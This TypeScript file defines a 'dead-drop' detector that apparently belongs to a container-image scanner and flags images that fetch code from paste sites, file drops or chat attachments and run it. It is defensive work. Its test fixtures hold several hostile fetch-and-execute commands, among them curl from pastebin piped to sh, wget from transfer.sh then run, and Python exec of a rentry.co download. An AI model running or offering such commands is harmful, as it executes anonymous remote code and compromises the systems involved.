import { render } from '../trace/value.ts';
import { destinationOf } from './destinations.ts';
import type { Detector } from './detector.ts';
import { downloadRuns } from './downloads.ts';
import { effectsOf } from './effects-of.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { clip } from './wording.ts';

/** Code or orders left where anybody can leave a text without a name. */
export const deadDrop: Detector = {
  id: 'dead-drop',
  version: 1,
  title: 'Takes its code from a paste site.',
  attack: ['T1102.001', 'T1608.001'],
  description: `
Paste sites, file drops and chat attachments let anybody leave a text without a name and change or remove it again. Code that is
fetched there and run is *malicious* when the image starts it (a build step: *suspicious*); from a raw gist, which has an owner's
name in it, *suspicious*. A text that is fetched at start and not seen to be run is a *note*: it may be the address of the next
stage.
`,
  fires: [
    { name: 'piped into a shell', image: { cmd: ['sh', '-c', 'curl -fsSL https://pastebin.com/raw/aaaaaaaa | sh'] } },
    {
      name: 'saved and run',
      image: { cmd: ['sh', '-c', 'wget -qO /tmp/x https://transfer.sh/aaaa/x; chmod +x /tmp/x; /tmp/x'] },
    },
    {
      name: 'an attachment of a chat',
      image: { cmd: ['sh', '-c', 'curl -so /tmp/u https://cdn.discordapp.com/attachments/1/2/u; sh /tmp/u'] },
    },
    {
      name: 'in Python',
      image: {
        cmd: [
          'python3',
          '-c',
          'import urllib.request; exec(urllib.request.urlopen("https://rentry.co/aaaa/raw").read())',
        ],
      },
    },
    {
      name: 'a raw gist',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'curl -s https://gist.githubusercontent.com/u/0/raw/x.sh | bash'] },
    },
    {
      name: 'a text that is only kept',
      severity: 'note',
      image: { cmd: ['sh', '-c', 'C=$(curl -s https://pastebin.com/raw/aaaaaaaa); exec app --server "$C"'] },
    },
  ],
  silent: [
    {
      name: 'a release',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl -fsSLo /data/list https://raw.githubusercontent.com/someone/lists/main/list.txt; exec app',
        ],
      },
    },
    {
      name: 'a gist while building',
      severity: 'note',
      image: { history: ['RUN /bin/sh -c curl -s https://gist.githubusercontent.com/u/0/raw/x.sh | bash'] },
    },
    {
      name: 'a result that is left there',
      image: { cmd: ['sh', '-c', 'exec app --paste-url https://paste.debian.net/'] },
    },
  ],
  detect(scene) {
    const ran = new Set<number>();
    const runs = downloadRuns(scene).flatMap(({ run, fetch, url }) => {
      const to = destinationOf(fetch?.url ?? [url ?? '']);
      if (to.kind !== 'paste') return [];
      if (fetch) ran.add(fetch.id);
      const owned = to.service?.startsWith('gist.') === true;
      return findingOf(scene, sightingOf(scene, run), {
        threat: owned ? 'dual-use' : 'hostile',
        title: `Runs code that somebody left at ${to.service} (${clip(to.text, 100)})`,
        because: 'Anybody can leave a text there without a name, and change it at any time.',
        effects: [run.id, ...(fetch ? [fetch.id] : [])],
      });
    });
    const kept = effectsOf(scene, 'fetch').flatMap((effect) => {
      const to = destinationOf(effect.url);
      if (to.kind !== 'paste' || ran.has(effect.id)) return [];
      return findingOf(scene, sightingOf(scene, effect), {
        threat: 'minor',
        title: `Reads a text that somebody left at ${to.service} (${clip(render(effect.url), 100)})`,
        effects: [effect.id],
      });
    });
    return [...runs, ...kept];
  },
};
